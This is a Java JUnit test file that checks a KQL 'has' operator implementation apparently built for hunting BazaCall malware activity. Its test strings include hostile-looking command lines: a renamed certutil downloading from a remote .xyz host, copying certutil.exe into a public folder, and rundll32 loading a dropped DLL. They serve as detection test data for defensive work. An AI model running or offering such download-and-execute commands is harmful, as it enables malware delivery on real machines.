package dev.bazahunt.kql;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** KQL {@code has}: whole-term matching, as the Kusto docs define it and as the BazaCall queries use it. */
class KqlHasTest {

    private static final String KUSTO_TRACE = "Kusto: ad67d136-c1db-4f9f-88ef-d94f3b6b0b5a;KustoExplorerQueryRun";

    @ParameterizedTest(name = "\"{0}\" has \"{1}\" is {2}")
    @CsvSource(delimiter = '|', textBlock = """
            North America | america | true
            North America | AMERICA | true
            North America | amer    | false
            """)
    void documentedExamples(String lhs, String rhs, boolean expected) {
        assertThat(KqlOperators.has(lhs, rhs)).isEqualTo(expected);
        assertThat(KqlOperators.notHas(lhs, rhs)).isEqualTo(!expected);
    }

    @ParameterizedTest(name = "trace has term \"{0}\"")
    @CsvSource({"Kusto", "KustoExplorerQueryRun", "ad67d136", "c1db", "4f9f", "88ef", "d94f3b6b0b5a"})
    void everyDocumentedTermOfTheKustoTraceMatches(String term) {
        assertThat(KqlOperators.has(KUSTO_TRACE, term)).isTrue();
    }

    @Test
    void substringOfATermIsNotATerm() {
        assertThat(KqlOperators.has(KUSTO_TRACE, "Explorer")).isFalse();
        assertThat(KqlOperators.contains(KUSTO_TRACE, "Explorer")).isTrue();
    }

    @Test
    void httpsUrlIsNotTheTermHttp() {
        assertThat(KqlOperators.has("x8k2.exe -urlcache -split -f https://pshe0pxe339.xyz/a.php", "http")).isFalse();
    }

    @Test
    void plainHttpUrlHasTheTermHttp() {
        assertThat(KqlOperators.has("x8k2.exe -urlcache -split -f http://pshe0pxe339.xyz/a.php", "http")).isTrue();
    }

    @ParameterizedTest(name = "\"{0}\" has \"split\" is {1}")
    @CsvSource(delimiter = '|', textBlock = """
            x.exe -urlcache -split -f http://a/b        | true
            x.exe /urlcache /split /f http://a/b        | true
            X.EXE -URLCACHE -SPLIT -F HTTP://A/B        | true
            split                                       | true
            x.exe -urlcache -f http://a/split/b.php     | true
            x.exe -urlcache -f http://a/b.php?split=1   | true
            x.exe -urlcache -splitter -f http://a/b     | false
            x.exe -urlcache -splitx -f http://a/b       | false
            x.exe -urlcache -unsplit -f http://a/b      | false
            x.exe -urlcache -split2 -f http://a/b       | false
            splitter split                              | true
            splitter splitx                             | false
            """)
    void splitFlagMatchesOnlyAsAWholeTerm(String commandLine, boolean expected) {
        assertThat(KqlOperators.has(commandLine, "split")).isEqualTo(expected);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            en dash           | x.exe \u2013split   | true
            em dash           | x.exe \u2014split   | true
            horizontal bar    | x.exe \u2015split   | true
            minus sign        | x.exe \u2212split   | true
            zero-width space  | x\u200bsplit\u200bf | true
            soft hyphen       | x\u00adsplit        | true
            e acute letter    | x.exe \u00e9split   | true
            cyrillic letter   | x.exe split\u0436   | true
            arabic digit      | x.exe split\u0661   | true
            ascii letter      | x.exe asplit       | false
            ascii digit       | x.exe split2       | false
            """)
    void onlyAsciiLettersAndDigitsAreTermCharacters(String what, String commandLine, boolean expected) {
        assertThat(KqlOperators.has(commandLine, "split")).as(what).isEqualTo(expected);
    }

    @Test
    void nonAsciiRunsAreNotTermsButStillMatchThemselvesLiterally() {
        String path = "C:\\Users\\\u0416\u0435\u043d\u044f\\x.exe";
        assertThat(KqlOperators.has(path, "\u0416\u0435\u043d\u044f")).isTrue();
        assertThat(KqlOperators.has(path, "\u0436\u0415\u041d\u042f")).as("Cyrillic does not fold").isFalse();
        assertThat(KqlOperators.has("stra\u00dfe 12", "STRA\u00dfE")).as("the ASCII letters fold").isTrue();
        assertThat(KqlOperators.has("stra\u00dfe 12", "STRA\u1e9eE")).as("\u00df is not \u1e9e").isFalse();
    }

    @ParameterizedTest(name = "\"{0}\" has \"{1}\"")
    @CsvSource(delimiter = '|', textBlock = """
            cmd.exe /c x.exe     | c
            cmd.exe /c x.exe     | x
            x.exe -f http://a/b  | f
            7z a -p1 out.7z      | p1
            """)
    void termsShorterThanThreeCharactersStillMatch(String lhs, String term) {
        assertThat(KqlOperators.has(lhs, term)).isTrue();
    }

    @ParameterizedTest(name = "\"{0}\" has \"{1}\" is {2}")
    @CsvSource(delimiter = '|', textBlock = """
            x.exe -urlcache -split -f http://a/b                    | -urlcache    | true
            x.exe /urlcache /split /f http://a/b                    | -urlcache    | false
            x.exe \u2013urlcache \u2013split \u2013f http://a/b     | -urlcache    | false
            x.exe --urlcache -split -f http://a/b                   | -urlcache    | true
            x.exe -urlcachex -split -f http://a/b                   | -urlcache    | false
            x.exe -URLCache -split -f http://a/b                    | -urlcache    | true
            x.exe-urlcache -split                                   | -urlcache    | true
            x.exe -urlcachex -split -urlcache -f http://a/b         | -urlcache    | true
            mkdir C:\\Users\\Public\\x8k2 && copy C:\\Windows\\System32\\certutil.exe x8k2.exe | && copy | true
            mkdir C:\\Users\\Public\\x8k2 &&copy certutil.exe x8k2.exe                         | && copy | false
            mkdir x && copying certutil.exe                         | && copy      | false
            copy C:\\Windows\\System32\\certutil.exe x.exe          | certutil.exe | true
            copy C:\\Windows\\System32\\CERTUTIL.EXE x.exe          | certutil.exe | true
            copy C:\\Windows\\System32\\mycertutil.exe x.exe        | certutil.exe | false
            copy C:\\Windows\\System32\\certutil.exe2 x.exe         | certutil.exe | false
            rundll32.exe C:\\Users\\Public\\x8k2\\tmp1834.dll,GlobalOut | ,GlobalOut | true
            rundll32.exe tmp1834.dll,GlobalOutput                   | ,GlobalOut   | false
            rundll32.exe tmp1834.dll, GlobalOut                     | ,GlobalOut   | false
            https://bomovie.net/cancel.php                          | /cancel.php  | true
            https://bomovie.net/cancel.phpx                         | /cancel.php  | false
            https://bomovie.net/nocancel.php                        | /cancel.php  | false
            North America                                           | North America | true
            """)
    void rightSideWithPunctuationIsALiteralWithTermBoundariesAtAlphanumericEnds(
            String lhs, String rhs, boolean expected) {
        assertThat(KqlOperators.has(lhs, rhs)).isEqualTo(expected);
    }

    @Test
    void punctuationRightSideMatchesInsideAPathAsObservedOnAzureUrls() {
        String url = "https://management.azure.com/subscriptions/1/resourcegroups/test.rg000001?api-version=2020";
        assertThat(KqlOperators.has(url, "resourcegroups/test.rg000001")).isTrue();
        assertThat(KqlOperators.has(url, "/resourcegroups/test.rg000001?")).isTrue();
        assertThat(KqlOperators.has(url, "sourcegroups/test.rg000001")).isFalse();
    }

    @Test
    void punctuationOnlyRightSideIsAPlainSubstring() {
        assertThat(KqlOperators.has("a && b", "&&")).isTrue();
        assertThat(KqlOperators.has("a & b", "&&")).isFalse();
    }

    @Test
    void missingLeftSideHasNoTerms() {
        assertThat(KqlOperators.has(null, "split")).isFalse();
        assertThat(KqlOperators.has("", "split")).isFalse();
        assertThat(KqlOperators.notHas(null, "split")).isTrue();
    }

    @Test
    void emptyRightSideIsNeverATerm() {
        assertThat(KqlOperators.has("x.exe -split", "")).isFalse();
        assertThat(KqlOperators.has("x.exe -split", null)).isFalse();
        assertThat(KqlOperators.has("", "")).isFalse();
        assertThat(KqlOperators.hasCs("x.exe -split", "")).isFalse();
    }

    @Test
    void rightSideLongerThanLeftSideNeverMatches() {
        assertThat(KqlOperators.has("spl", "split")).isFalse();
    }

    @Test
    void caseSensitiveHasComparesExactly() {
        assertThat(KqlOperators.hasCs("North America", "America")).isTrue();
        assertThat(KqlOperators.hasCs("North America", "america")).isFalse();
        assertThat(KqlOperators.hasCs("North America", "Amer")).isFalse();
        assertThat(KqlOperators.hasCs("x.exe -URLCACHE", "-urlcache")).isFalse();
    }
}
